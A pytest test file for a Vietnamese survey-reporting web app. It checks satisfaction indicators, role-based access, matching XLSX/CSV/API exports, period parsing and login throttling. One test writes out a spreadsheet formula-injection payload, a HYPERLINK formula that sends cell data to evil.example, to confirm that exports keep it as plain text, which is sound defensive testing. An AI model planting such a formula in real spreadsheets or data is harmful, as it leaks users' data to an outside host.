"""Indicators and reports: roll-ups from answers, access scoping, the same numbers on the
page, in the XLSX, the CSV and the API."""

from __future__ import annotations

import csv
import io
import re

import pytest
from factories import ITEMS, PASSWORD, api_token, gen_paper_forms, gen_user, sign_in
from helpers import read_form
from openpyxl import load_workbook

from satisfaction.db.accounts import Role


@pytest.fixture
def data(app, demo):
    """A small ward (Bến Nghé, 2 forms) and a big one (Tân Định, 8 forms), in March 2026.

    Bến Nghé: both forms answer A1 with 5 and 2 -> A1 = 50 %; everything else 4 except E:
    E1-E4 answered 0 (no opinion) by both -> element E has no value.
    Tân Định: 8 forms, A1 = 5 in 6 forms and 1 in 2 -> 75 %; everything else 4.
    """
    e_no_opinion = {"E1": "0", "E2": "0", "E3": "0", "E4": ""}
    rows = [
        ("Q1-BN", "2026-03-02", {"A1": "5", **e_no_opinion, "comment": "Chờ hơi lâu"}),
        ("Q1-BN", "2026-03-20", {"A1": "2", **e_no_opinion}),
    ]
    rows += [("Q1-TD", "2026-03-05", {"A1": "5"}) for _ in range(6)]
    rows += [("Q1-TD", "2026-03-06", {"A1": "1"}) for _ in range(2)]
    gen_paper_forms(app, rows)
    return demo


def test_ward_with_missing_element_and_no_opinion_criterion(client, app, data):
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    sign_in(client, "reviewer@q1.example.vn")
    token = api_token(app.test_cli_runner(), "reviewer@q1.example.vn")
    body = client.get("/api/v1/indicators?index=sipas&unit=Q1-BN&from=2026-03-01&to=2026-03-31",
                      headers={"Authorization": f"Bearer {token}"}).json
    assert body["responses"] == 2
    elements = {e["code"]: e for e in body["elements"]}
    # A: A1 = 1 of 2 satisfied = 50; A2-A4 = 100 -> (50 + 100 + 100 + 100) / 4 = 87.5
    assert elements["A"]["value"] == pytest.approx(87.5)
    assert elements["A"]["criteria"][0]["value"] == pytest.approx(50.0)
    # Everyone had no opinion on E: no value (not zero), and n = 0.
    assert elements["E"]["value"] is None
    e1 = elements["E"]["criteria"][0]
    assert e1["n"] == 0 and e1["no_opinion"] == 2 and e1["value"] is None
    # Overall = mean of the elements that have a value: (87.5 + 100 + 100 + 100) / 4 = 96.875
    assert body["value"] == pytest.approx(96.875)


def test_district_rolls_up_answers_not_ward_percentages(client, app, data):
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    token = api_token(app.test_cli_runner(), "reviewer@q1.example.vn")
    get = lambda unit: client.get(  # noqa: E731
        f"/api/v1/indicators?index=sipas&unit={unit}&period=2026-03",
        headers={"Authorization": f"Bearer {token}"}).json
    district, small, big = get("Q1"), get("Q1-BN"), get("Q1-TD")
    a1 = lambda body: body["elements"][0]["criteria"][0]  # noqa: E731
    assert a1(small)["value"] == pytest.approx(50.0)
    assert a1(big)["value"] == pytest.approx(75.0)
    # Pooled answers: (1 + 6) satisfied of (2 + 8) = 70 %, not (50 + 75) / 2 = 62.5 %.
    assert a1(district)["value"] == pytest.approx(70.0)
    assert a1(district)["n"] == 10 and district["responses"] == 10
    # E over the district: only Tân Định's 8 forms, all 4 -> 100.
    assert district["elements"][4]["value"] == pytest.approx(100.0)
    # No ward has the 30 answers a verdict needs: none is ranked, Tân Định (higher lower
    # bound) is listed before Bến Nghé, then the wards without data.
    units = district["units"]
    assert [u["code"] for u in units[:2]] == ["Q1-TD", "Q1-BN"]
    assert all(u["state"] == "no_data" and u["value"] is None for u in units[2:])
    td = units[0]
    assert td["value"] == pytest.approx(98.75)  # above 90, but 8 answers: no verdict
    assert td["state"] == "not_enough_data" and td["rank"] is None
    assert not td["commendation_candidate"]


def test_page_xlsx_csv_and_api_agree(client, app, data):
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    sign_in(client, "reviewer@q1.example.vn")
    token = api_token(app.test_cli_runner(), "reviewer@q1.example.vn")
    query = "period=2026-03"
    api = client.get(f"/api/v1/indicators?index=sipas&unit=Q1&{query}",
                     headers={"Authorization": f"Bearer {token}"}).json
    page = client.get(f"/admin/reports/sipas/Q1?{query}")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    overall = api["value"]
    assert f"{overall:.1f}".replace(".", ",") in html  # Vietnamese decimal comma
    assert "Phường Tân Định" in html and "Chưa có dữ liệu" in html
    assert "<svg" in html and "Tiêu chí đạt thấp nhất" in html or "thấp nhất" in html

    xlsx = client.get(f"/admin/reports/sipas/Q1.xlsx?{query}")
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.data))
    assert book.sheetnames == ["Tổng hợp", "Yếu tố", "Tiêu chí", "Đơn vị"]
    summary = {row[0]: row[1] for row in book["Tổng hợp"].iter_rows(values_only=True)}
    assert summary["Kết quả"] == pytest.approx(overall, abs=0.01)
    assert isinstance(summary["Số phiếu"], int) and summary["Số phiếu"] == api["responses"]
    criteria = {row[1]: row for row in book["Tiêu chí"].iter_rows(min_row=2, values_only=True)}
    assert criteria["A1"][5] == pytest.approx(70.0)
    header = next(book["Đơn vị"].iter_rows(max_row=1, values_only=True))
    assert header[:10] == ("Mã đơn vị", "Đơn vị", "Xếp hạng", "Số phiếu", "Kết quả",
                           "Cận dưới 95 % (xếp hạng)", "Cận trên 95 %", "Chỉ tiêu",
                           "Đánh giá", "Ứng viên khen thưởng")
    units = {row[0]: row for row in book["Đơn vị"].iter_rows(min_row=2, values_only=True)}
    assert units["Q1-CK"][4] is None and units["Q1-CK"][8] == "Không có dữ liệu"
    by_api = {u["code"]: u for u in api["units"]}
    for code, row in units.items():  # the ranking of the page and the API, intervals included
        assert row[2] == by_api[code]["rank"]
        assert row[5] == (None if by_api[code]["lower_bound"] is None
                          else pytest.approx(by_api[code]["lower_bound"], abs=0.01))
        assert row[6] is None or row[5] <= row[4] <= row[6]

    raw = client.get(f"/admin/reports/sipas/Q1.csv?{query}").data
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][0] == "Cấp" and rows[1][0] == "Tổng hợp"
    assert float(rows[1][4]) == pytest.approx(overall, abs=0.01)
    # The Vietnamese Excel dialect: semicolons, decimal commas, the same numbers.
    vi = client.get(f"/admin/reports/sipas/Q1.csv?{query}&dialect=vi").data.decode("utf-8-sig")
    vi_rows = list(csv.reader(io.StringIO(vi), delimiter=";"))
    assert len(vi_rows) == len(rows) and vi_rows[0] == rows[0]
    assert float(vi_rows[1][4].replace(",", ".")) == pytest.approx(overall, abs=0.01)
    assert "," in vi_rows[1][4] and "." not in vi_rows[1][4]


def test_raw_responses_export_has_no_personal_data(client, app, data):
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    sign_in(client, "reviewer@q1.example.vn")
    raw = client.get("/admin/reports/sipas/Q1/responses.csv?period=2026-03")
    assert raw.status_code == 200
    text = raw.get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 10
    assert "comment" not in rows[0] and "Chờ hơi lâu" not in text
    assert {r["kenh"] for r in rows} == {"paper"}
    bn = [r for r in rows if r["don_vi"] == "Q1-BN"]
    assert sorted(r["A1"] for r in bn) == ["2", "5"] and bn[0]["E1"] == "0"


def test_ward_manager_sees_only_their_ward(client, app, data):
    gen_user(app, "bn@q1.example.vn", Role.UNIT_MANAGER, "Q1-BN")
    sign_in(client, "bn@q1.example.vn")
    home = client.get("/admin/reports/?period=2026-03")
    assert home.status_code == 302 and "/admin/reports/sipas/Q1-BN" in home.headers["Location"]
    assert client.get("/admin/reports/sipas/Q1-BN?period=2026-03").status_code == 200
    for unit in ("Q1", "Q1-TD"):
        assert client.get(f"/admin/reports/sipas/{unit}?period=2026-03").status_code == 404
        assert client.get(f"/admin/reports/sipas/{unit}.xlsx?period=2026-03").status_code == 404
    assert client.get("/admin/").status_code == 302  # not an administrator
    token = api_token(app.test_cli_runner(), "bn@q1.example.vn")
    auth = {"Authorization": f"Bearer {token}"}
    assert client.get("/api/v1/indicators?index=sipas&unit=Q1&period=2026",
                      headers=auth).status_code == 404
    assert [u["code"] for u in client.get("/api/v1/units", headers=auth).json["units"]] == [
        "Q1-BN"]


def test_observer_reads_sipas_without_comments_and_changes_nothing(client, app, data):
    gen_user(app, "mttq@q1.example.vn", Role.OBSERVER)
    sign_in(client, "mttq@q1.example.vn")
    page = client.get("/admin/reports/sipas/Q1-BN?period=2026-03")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "Chờ hơi lâu" not in html
    assert client.get("/admin/reports/pci/Q1?period=2026").status_code == 403
    assert client.get("/admin/import").status_code == 403
    token = read_form(client.get("/admin/reports/sipas/Q1?period=2026").get_data(as_text=True))
    csrf = token.hidden.get("csrf_token") or re.search(
        r'name="csrf_token" type="hidden" value="([^"]+)"', html).group(1)
    response = client.post("/admin/import", data={"csrf_token": csrf})
    assert response.status_code == 403
    # Signing out is still allowed.
    assert client.post("/admin/logout", data={"csrf_token": csrf}).status_code == 303


def test_index_owner_sees_its_own_indices_only(client, app, data):
    gen_user(app, "tckh@q1.example.vn", Role.INDEX_OWNER, "Q1-TCKH")
    sign_in(client, "tckh@q1.example.vn")
    assert client.get("/admin/reports/pci/Q1?period=2026").status_code == 200
    assert client.get("/admin/reports/sipas/Q1?period=2026").status_code == 403


def test_reviewer_sees_comments_and_lowest_criteria(client, app, data):
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    sign_in(client, "reviewer@q1.example.vn")
    html = client.get("/admin/reports/sipas/Q1-BN?period=2026-03").get_data(as_text=True)
    assert "Chờ hơi lâu" in html
    lowest = html[html.index('class="card lowest"'):]
    lowest = lowest[: lowest.index("</section>")]
    assert "A1" in lowest


@pytest.mark.parametrize(
    "query,message",
    [
        ("from=2026-03-31&to=2026-03-01", "kết thúc trước khi bắt đầu"),
        ("from=2026-13-01", "YYYY-MM-DD"),
        ("period=2026-Q5", "Quý 4/2026"),
    ],
)
def test_bad_dates_are_clear_messages_beside_the_form(client, app, data, query, message):
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    sign_in(client, "reviewer@q1.example.vn")
    response = client.get(f"/admin/reports/sipas/Q1?{query}")
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    assert client.get(f"/admin/reports/sipas/Q1.xlsx?{query}").status_code == 400


def test_api_errors_are_json_and_never_500(client, app, data):
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    token = api_token(app.test_cli_runner(), "reviewer@q1.example.vn")
    auth = {"Authorization": f"Bearer {token}"}
    cases = [
        ("/api/v1/indicators?index=sipas&unit=Q1&from=2026-05-01&to=2026-01-01", 400),
        ("/api/v1/indicators?index=sipas&unit=NOPE&period=2026", 404),
        ("/api/v1/indicators?index=nope&unit=Q1&period=2026", 404),
        ("/api/v1/indicators?index=sipas", 400),
        ("/api/v1/indicators?index=sipas&unit=Q1&period=2026&questionnaire=x", 400),
    ]
    for url, status in cases:
        response = client.get(url, headers=auth)
        assert response.status_code == status, url
        assert response.is_json and response.json["error"]
    assert client.get("/api/v1/units").status_code == 401
    assert client.get("/api/v1/units", headers={"Authorization": "Bearer sat_x"}).status_code == 401
    # A period without data: numbers are null, never zero.
    body = client.get("/api/v1/indicators?index=sipas&unit=Q1&period=2025", headers=auth).json
    assert body["responses"] == 0 and body["value"] is None
    assert all(e["value"] is None for e in body["elements"])


def test_openapi_document_and_listings(client, app, data):
    doc = client.get("/api/v1/openapi.json").json
    assert doc["openapi"].startswith("3.") and "/indicators" in doc["paths"]
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    auth = {"Authorization": f"Bearer {api_token(app.test_cli_runner(), 'reviewer@q1.example.vn')}"}
    indices = client.get("/api/v1/indices", headers=auth).json["indices"]
    assert [i["code"] for i in indices] == ["sipas", "pci", "papi", "par", "bsi"]
    assert {i["code"]: i["owner"] for i in indices}["pci"] == "Q1-TCKH"
    questionnaires = client.get("/api/v1/questionnaires", headers=auth).json["questionnaires"]
    sipas = next(q for q in questionnaires if q["code"] == "sipas-2640")
    assert [i["code"] for e in sipas["elements"] for i in e["items"]] == ITEMS


def test_cli_export_and_users(runner, app, data, tmp_path):
    out = tmp_path / "q1.xlsx"
    result = runner.invoke(args=["report", "export", "--index", "sipas", "--unit", "Q1",
                                 "--from", "2026-03-01", "--to", "2026-03-31",
                                 "--format", "xlsx", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "(10 responses)" in result.output
    assert load_workbook(out)["Tổng hợp"]["A1"].value == "Mục"
    result = runner.invoke(args=["report", "export", "--index", "sipas", "--unit", "Q1",
                                 "--from", "2026-03-31", "--to", "2026-03-01", "--out", str(out)])
    assert result.exit_code != 0 and "bad period" in result.output
    result = runner.invoke(args=["users", "create", "--email", "a@q1.example.vn",
                                 "--role", "unit_manager"])
    assert result.exit_code != 0 and "--unit is required" in result.output
    result = runner.invoke(args=["users", "create", "--email", "a@q1.example.vn",
                                 "--role", "unit_manager", "--unit", "Q1-BN"])
    assert result.exit_code == 0 and "Password: " in result.output


def test_sign_in_throttles_the_guesser_not_the_person(client, app, data):
    """Audit finding 9: five wrong passwords for an account from one address start a delay
    (Retry-After, doubling); the right password from another address still works."""
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    form = read_form(client.get("/admin/login").get_data(as_text=True))

    def sign_in_from(address, password):
        return client.post("/admin/login", data={
            "csrf_token": form.hidden["csrf_token"], "email": "reviewer@q1.example.vn",
            "password": password}, environ_base={"REMOTE_ADDR": address})

    statuses = [sign_in_from("198.51.100.7", "sai").status_code for _ in range(7)]
    assert statuses[:5] == [401] * 5 and statuses[5:] == [429, 429]
    held = sign_in_from("198.51.100.7", PASSWORD)
    assert held.status_code == 429 and 0 < int(held.headers["Retry-After"]) <= 61
    # The rightful user, from the office: in at once.
    assert sign_in_from("203.0.113.20", PASSWORD).status_code == 303


def test_parallel_guesses_get_exactly_the_free_attempts(app, data):
    """Forty attempts at once for one account and address: five are let through to the
    password check, never six (the count is taken under a lock)."""
    from concurrent.futures import ThreadPoolExecutor

    from satisfaction.accounts import auth
    from satisfaction.extensions import db

    def attempt(_):
        with app.app_context():
            granted, _wait = auth.begin_attempt("victim@q1.example.vn", "192.0.2.1")
            db.session.remove()
            return granted is not None

    with ThreadPoolExecutor(max_workers=8) as pool:
        results = list(pool.map(attempt, range(40)))
    assert sum(results) == auth.FREE_FAILURES_PER_PAIR


def test_ranges_that_cut_months_count_exactly_their_days(client, app, data):
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    token = api_token(app.test_cli_runner(), "reviewer@q1.example.vn")
    auth = {"Authorization": f"Bearer {token}"}

    def responses(query):
        return client.get(f"/api/v1/indicators?index=sipas&unit=Q1&{query}",
                          headers=auth).json["responses"]

    assert responses("from=2026-03-02&to=2026-03-20") == 10  # both ends included
    assert responses("from=2026-03-03&to=2026-03-19") == 8   # Bến Nghé's two forms left out
    assert responses("from=2026-02-15&to=2026-04-15") == 10  # a whole month between edges
    assert responses("from=2026-03-21&to=2026-04-30") == 0
    assert responses("from=2026-03-01&to=2026-03-19") == 9   # the month less its last days
    assert responses("from=2026-03-06&to=2026-03-31") == 3   # Tân Định's 03-06 and Bến Nghé's 03-20
    assert responses("period=2026-Q1") == 10 and responses("period=2026") == 10


def test_report_shows_intervals_states_and_lower_bounds(client, app, data):
    # Add enough forms for a verdict: Cầu Kho, 60 forms of which 30 satisfied on A1.
    gen_paper_forms(app, [("Q1-CK", "2026-03-10", {"A1": "5" if i % 2 else "2"})
                          for i in range(60)])
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    sign_in(client, "reviewer@q1.example.vn")
    html = client.get("/admin/reports/sipas/Q1-CK?period=2026-03").get_data(as_text=True)
    row = html[html.index("<td>A1</td>"):]
    row = row[: row.index("</tr>")]
    # 30 of 60 = 50 %; exact 95 % interval 36.8–63.2; far below 90 with n = 60.
    assert "50,0 %" in row and "36,8–63,2" in row and "Dưới chỉ tiêu (đủ căn cứ)" in row
    assert "Cách đọc kết quả đánh giá" in html
    # Bến Nghé has 2 forms: not enough data, never "below".
    small = client.get("/admin/reports/sipas/Q1-BN?period=2026-03").get_data(as_text=True)
    row = small[small.index("<td>A1</td>"):]
    assert "Chưa đủ dữ liệu" in row[: row.index("</tr>")]
    district = client.get("/admin/reports/sipas/Q1?period=2026-03").get_data(as_text=True)
    assert "Cận dưới (xếp hạng)" in district and "Chưa xếp hạng" in district


@pytest.mark.parametrize("others_satisfied", [0.80, 0.97], ids=["district-87", "district-96"])
def test_three_lucky_answers_never_outrank_four_hundred_at_95(client, app, demo,
                                                               others_satisfied):
    """Bến Nghé: 3 forms, all satisfied; Tân Định: 400 forms, 95 % satisfied; the other
    wards set the district's mean near 87 % or 96 %."""
    rows = [("Q1-BN", "2026-03-02", {}) for _ in range(3)]
    rows += [("Q1-TD", "2026-03-03", {} if i % 20 else {c: "2" for c in ITEMS})
             for i in range(400)]
    bad_every = round(1 / (1 - others_satisfied))
    for ward in ("Q1-CK", "Q1-DK", "Q1-NCT"):
        rows += [(ward, "2026-03-04", {} if i % bad_every else {c: "2" for c in ITEMS})
                 for i in range(150)]
    gen_paper_forms(app, rows)
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    token = api_token(app.test_cli_runner(), "reviewer@q1.example.vn")
    body = client.get("/api/v1/indicators?index=sipas&unit=Q1&period=2026-03",
                      headers={"Authorization": f"Bearer {token}"}).json
    assert 86.5 < body["value"] < 88.5 if others_satisfied < 0.9 else 95 < body["value"] < 97
    units = {u["code"]: u for u in body["units"]}
    order = [u["code"] for u in body["units"]]
    bn, td = units["Q1-BN"], units["Q1-TD"]
    assert bn["value"] == pytest.approx(100.0) and bn["state"] == "not_enough_data"
    assert bn["rank"] is None and not bn["commendation_candidate"]
    assert td["state"] == "meets" and td["rank"] is not None
    assert order.index("Q1-TD") < order.index("Q1-BN")
    # The default commendation rule: the lower bound meets the target (400 at 95 %: ~92).
    assert td["commendation_candidate"] and 90 < td["lower_bound"] < 95


def test_the_index_owner_sets_the_rule_for_commendation_candidates(client, app, demo):
    # Cầu Kho: 40 forms, 37 satisfied (92.5 %): at the target, its lower bound is not.
    rows = [("Q1-CK", "2026-03-04", {} if i < 37 else {c: "2" for c in ITEMS})
            for i in range(40)]
    gen_paper_forms(app, rows)
    gen_user(app, "admin2@q1.example.vn", Role.ADMIN)
    token = api_token(app.test_cli_runner(), "admin2@q1.example.vn")

    def cau_kho():
        body = client.get("/api/v1/indicators?index=sipas&unit=Q1&period=2026-03",
                          headers={"Authorization": f"Bearer {token}"}).json
        return next(u for u in body["units"] if u["code"] == "Q1-CK")

    ck = cau_kho()
    assert ck["value"] == pytest.approx(92.5) and ck["lower_bound"] < 90
    assert ck["state"] == "meets" and not ck["commendation_candidate"]
    sign_in(client, "admin2@q1.example.vn")
    csrf = read_form(client.get("/admin/alerts/rules").get_data(as_text=True)).hidden[
        "csrf_token"]
    saved = client.post("/admin/alerts/commendation",
                        data={"csrf_token": csrf, "index": "sipas", "rule": "value"})
    assert saved.status_code == 303
    assert cau_kho()["commendation_candidate"]
    assert client.post("/admin/alerts/commendation", data={
        "csrf_token": csrf, "index": "sipas", "rule": "anything"}).status_code == 400


def test_exports_never_carry_a_live_formula(client, app, data):
    """A unit named like a formula (audit finding 8) is text in the XLSX and the CSV."""
    import sqlalchemy as sa

    from satisfaction.db.units import Unit
    from satisfaction.extensions import db

    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    with app.app_context():
        unit = db.session.scalar(sa.select(Unit).where(Unit.code == "Q1-TD"))
        unit.name_vi = evil
        db.session.commit()
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    sign_in(client, "reviewer@q1.example.vn")
    book = load_workbook(io.BytesIO(client.get("/admin/reports/sipas/Q1.xlsx?period=2026-03")
                                    .data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert evil in [c.value for c in cells]  # kept as the text it is
    text = client.get("/admin/reports/sipas/Q1.csv?period=2026-03").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert ["'" + evil] == [cell for row in rows for cell in row if "HYPERLINK" in cell]


@pytest.mark.parametrize(("typed", "label"), [
    ("Quý 4/2026", "2026-Q4"), ("Q4/2026", "2026-Q4"), ("quý IV năm 2026", "2026-Q4"),
    ("T10/2026", "2026-10"), ("tháng 10/2026", "2026-10"), ("10/2026", "2026-10"),
    ("năm 2026", "2026"), ("01/10/2026 – 31/12/2026", "2026-10-01/2026-12-31"),
    ("từ 01/10/2026 đến 31/12/2026", "2026-10-01/2026-12-31"),
])
def test_periods_as_people_type_them(typed, label):
    from satisfaction.indices import periods

    assert periods.parse(typed).label == label


def test_a_period_not_understood_shows_the_form_again(client, app, data):
    """Issue 16: "Quý 4/2026" typed in the period field gave a bare 400 page."""
    gen_user(app, "clerk@q1.example.vn", Role.REVIEWER)
    sign_in(client, "clerk@q1.example.vn")
    response = client.get("/admin/reports/sipas/Q1?period=Quý 5/2026")
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert 'value="Quý 5/2026"' in html and "Kỳ báo cáo đã nhập không đúng định dạng" in html
    assert 'id="period-error" role="alert"' in html and "<h1>" in html
    assert client.get("/admin/reports/sipas/Q1?period=Quý 4/2026").status_code == 200
    assert client.get("/admin/reports/sipas/Q1.csv?period=Quý 5/2026").status_code == 400


def test_wards_and_offices_are_ranked_apart(client, app, demo, runner):
    """Issue 16: the ranking mixed the 10 wards with the district's offices."""
    rows = [(unit, "2026-03-10", {}) for unit in ("Q1-BN", "Q1-TD", "Q1-VP") for _ in range(40)]
    gen_paper_forms(app, rows)
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    token = api_token(runner, "reviewer@q1.example.vn")
    body = client.get("/api/v1/indicators?index=sipas&unit=Q1&period=2026-03",
                      headers={"Authorization": f"Bearer {token}"}).get_json()
    ranked = [(u["code"], u["ranked_with"], u["rank"]) for u in body["units"] if u["rank"]]
    assert ranked[:2] == [("Q1-BN", "territorial", 1), ("Q1-TD", "territorial", 2)] or \
        ranked[:2] == [("Q1-TD", "territorial", 1), ("Q1-BN", "territorial", 2)]
    assert ("Q1-VP", "offices", 1) in ranked
    kinds = [u["ranked_with"] for u in body["units"]]
    assert kinds == sorted(kinds, key=lambda k: k == "offices")  # wards first, then offices
    sign_in(client, "reviewer@q1.example.vn")
    html = client.get("/admin/reports/sipas/Q1?period=2026-03").get_data(as_text=True)
    assert "Cơ quan chuyên môn (xếp hạng riêng)" in html


def test_two_periods_compared_per_criterion_with_the_change_and_its_interval(
        client, app, demo, runner):
    """Issue 16: 2026-Q3 against 2025-Q3, per criterion: the change, Newcombe's interval
    and whether it is significant across the criteria."""
    rows = [("Q1-BN", "2025-08-12", {}) for _ in range(40)]
    rows += [("Q1-BN", "2026-08-12", {"A1": "2"}) for _ in range(20)]
    rows += [("Q1-BN", "2026-08-12", {}) for _ in range(20)]
    gen_paper_forms(app, rows)
    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
    token = api_token(runner, "reviewer@q1.example.vn")
    body = client.get("/api/v1/indicators?index=sipas&unit=Q1-BN&period=Quý 3/2026"
                      "&compare=Q3/2025", headers={"Authorization": f"Bearer {token}"}).get_json()
    assert body["previous"]["period"]["label"] == "2025-Q3"
    criteria = {c["code"]: c for e in body["elements"] for c in e["criteria"]}
    a1, a2 = criteria["A1"]["change"], criteria["A2"]["change"]
    assert a1["difference"] == pytest.approx(-50.0) and a1["significant"] is True
    assert a1["low"] < -50 < a1["high"] < 0
    assert a2["difference"] == pytest.approx(0.0) and a2["significant"] is False
    sign_in(client, "reviewer@q1.example.vn")
    html = client.get("/admin/reports/sipas/Q1-BN?period=2026-Q3&compare=2025-Q3").get_data(
        as_text=True)
    assert "Thay đổi so với kỳ 2025-Q3" in html and "thay đổi đủ căn cứ" in html
    row = html[html.index("<td>A1</td>"):]
    assert "-50,0" in row[:row.index("</tr>")]
